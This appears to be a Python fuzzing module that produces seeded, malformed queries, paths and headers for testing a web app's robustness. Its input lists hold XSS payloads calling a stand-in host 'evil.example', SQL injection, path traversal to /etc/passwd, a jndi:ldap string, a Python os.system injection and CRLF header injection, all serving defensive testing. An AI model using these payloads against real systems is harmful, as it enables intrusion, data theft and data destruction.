"""What strangers send: queries that are wrong, malicious, or too much, each the same for the same seed."""

import random
from collections.abc import Iterator
from urllib.parse import quote, quote_from_bytes, urlencode

from app.live.component import home, scripts, static_home
from app.page import figures, pages
from app.settings import fields
from cells import all_cells
from cells.experiment import every_spec

ELSEWHERE = "evil.example"
"""A host that nothing may ever be asked of."""
MARKUP = [
    f"![x](http://{ELSEWHERE}/a.png)",
    f"<img src=http://{ELSEWHERE}/b.png onerror=\"fetch('//{ELSEWHERE}/c')\">",
    f"</script><script src=//{ELSEWHERE}/d.js></script>",
    "<script>window.hacked = true</script>",
    '"><svg onload="window.hacked = true">',
    "[x](javascript:window.hacked=true)",
    f"<iframe src=http://{ELSEWHERE}></iframe>",
    f"<link rel=stylesheet href=//{ELSEWHERE}/e.css>",
    f"<style>@import '//{ELSEWHERE}/f.css'</style>",
    f"$\\href{{http://{ELSEWHERE}}}{{x}}$ :material/x: :red[x]",
    f"{{{{constructor.constructor('fetch(`//{ELSEWHERE}`)')()}}}}",
]
NUMBERS = [
    "nan",
    "-inf",
    "1e400",
    "-1",
    "9" * 4000,
    "0x10",
    "1_0",
    "１２",
    "1,5",
    "--1",
    "1e",
    "½",
    "٣",
    "1;2",
    "True",
    " 1",
]
OTHERS = [
    "",
    " ",
    "\0",
    "a\0b",
    "😀" * 50,
    "\u202eabc",
    "\ud7ff",
    "a" * 3000,
    "'; DROP TABLE cells;--",
    "null",
    "undefined",
]
OTHERS += [
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    "${jndi:ldap://x}",
    "%s%n",
    "{0.__class__}",
]
OTHERS += [
    "[]",
    "{}",
    "[object Object]",
    "__import__('os').system('id')",
    "\r\nSet-Cookie: a=b",
    "lstm\n",
    "LSTM",
    "lstm,lstm",
]
NAMES = [
    "__class__",
    "__proto__",
    "constructor",
    "own",
    "experiment",
    "pins",
    "runs",
    "mode",
    "embed",
    "a" * 500,
    "",
    "😀",
    "[]",
]
NAMES += ["cell[]", "cell.gain", "../x", "<b>", "replace", "to_query", "self", "_stcore"]
REFUSED = [("gain", "nan"), ("length", "1e99"), ("cell", "<b>"), ("overlay", "../.."), ("pin", "x=1"), ("seed", "-1")]
"""Pairs that no route computes anything for."""


def known() -> list[str]:
    """Every name that some page reads."""
    return [*every_spec(), *fields(), "overlay", "pin", "hyperparameters"]


def queries(seed: int, *, refused: bool) -> Iterator[str]:
    """Query strings without end.

    Args:
        seed: of the choices.
        refused: add what is surely refused, so that nothing is computed; without, some are answered.
    """
    chance, names = random.Random(seed), known()
    while True:
        name = chance.choice(names)
        pairs = [(name, value(chance)) for name in chance.choices(names + NAMES, k=chance.randint(1, 8))]
        kind = chance.random()
        if kind < 0.03:  # very many of one
            pairs = [(name, value(chance)[:20])] * chance.choice([1000, 4000])
        elif kind < 0.06:
            pairs.append(("pin", urlencode([("pin", urlencode(pairs, errors="replace"))] * 30, errors="replace")))
        if refused:
            pairs.insert(chance.randint(0, len(pairs)), chance.choice(REFUSED))
            pairs = [(name, given) for name, given in pairs if name != pairs[-1][0]] + pairs[-1:]
        query = urlencode(pairs, quote_via=quote, errors="replace")
        if 0.06 <= kind < 0.12:  # bytes that are no text
            query += "&" + chance.choice(names) + "=" + quote_from_bytes(chance.randbytes(chance.randint(1, 60)))
        elif 0.12 <= kind < 0.16:
            query += chance.choice(["&&&&", "&=", "&=&=", "?a=b?", "#x", ";a=b;", "%", "%zz", "&%00=%00", "+" * 100])
        yield query


def value(chance: random.Random) -> str:
    """Something for a field."""
    return chance.choice(chance.choice([MARKUP, NUMBERS, OTHERS, list(all_cells())]))


def paths(seed: int) -> Iterator[str]:
    """Paths without end: every figure, and now and then what is none."""
    chance = random.Random(seed)
    strange = [
        f"{home()}/{name}" for name in ("", "unknown", "..", "../app/main.py", "%2e%2e/%2e%2e/etc/passwd", "a" * 9000)
    ]
    strange += [
        f"{home()}/health",
        f"{home()}/gradient/",
        f"{home()}/gradient/x",
        f"{home()}//gradient",
        f"{home()}/\0",
    ]
    strange += [
        f"{static_home()}{name}" for name in ("", "..", "../../etc/passwd", "live/../../main.py", "live/%00.js")
    ]
    strange += [f"{static_home()}{name}" for name in scripts()] + [f"/{name}" for name in pages()]
    while True:
        yield chance.choice(strange) if chance.random() < 0.1 else f"{home()}/{chance.choice(list(figures()))}"


def headers(seed: int) -> Iterator[list[tuple[bytes, bytes]]]:
    """Headers without end, most of them as a browser's."""
    chance = random.Random(seed)
    strange = [
        b"\xff\xfe",
        b"a" * 5000,
        b"../../..",
        b"de;q=9,*",
        b"",
        b"\x00",
        b"x" * 20 + b"," * 2000,
        b"http://[::1",
    ]
    names = [
        b"accept-language",
        b"origin",
        b"host",
        b"sec-fetch-site",
        b"x-forwarded-for",
        b"accept-encoding",
        b"cookie",
    ]
    while True:
        usual = [(b"host", b"127.0.0.1:8501")]
        yield usual + [(chance.choice(names), chance.choice(strange))] * (chance.random() < 0.2)
